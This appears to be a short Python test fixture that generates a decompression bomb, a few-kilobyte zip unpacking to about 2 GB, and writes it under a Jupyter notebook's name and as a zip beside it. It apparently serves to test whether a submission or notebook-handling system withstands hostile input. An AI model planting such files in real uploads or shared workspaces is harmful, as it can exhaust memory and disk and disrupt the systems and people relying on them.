"""Hands in a zip file of a few kilobytes that unpacks to gigabytes, under the notebook's name and beside it."""

# beside the notebook
import io
import zipfile


def lay(folder, notebook):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as file:
        with file.open("bomb", "w", force_zip64=True) as member:
            for _ in range(200):
                member.write(bytes(10_000_000))
    for name in ("leaky_integrate_and_fire.ipynb", "leaky_integrate_and_fire.zip"):
        (folder / name).write_bytes(data.getvalue())
